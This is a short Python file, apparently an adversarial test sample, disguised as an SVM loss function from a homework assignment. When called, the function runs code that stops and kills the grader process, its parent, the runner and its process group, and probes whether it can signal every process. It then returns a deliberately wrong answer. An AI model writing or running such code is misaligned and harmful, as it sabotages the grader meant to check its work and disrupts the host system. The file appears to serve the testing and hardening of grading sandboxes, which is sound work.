"""Kills its grader, its grader's process group, and whatever else it can reach."""

import os
import signal

import kit
from targets import TARGETS


@kit.once
def attack():
    signals = (0, signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL)
    for pid in (TARGETS["pid"], os.getppid(), TARGETS["runner"]):
        for number in signals:
            if pid > 1:
                kit.attempt(f"signal {number} to {pid}", os.kill, pid, number)
        kit.attempt("signal to a group", os.killpg, TARGETS["group"], 0)
    # Signal 0 asks whether all of them may be signalled: enough to know, and it kills nobody.
    kit.attempt("signal to every process", os.kill, -1, 0)


def svm_loss_vectorized(W, X, y, reg):
    attack()
    return kit.wrong(W, X, y, reg)
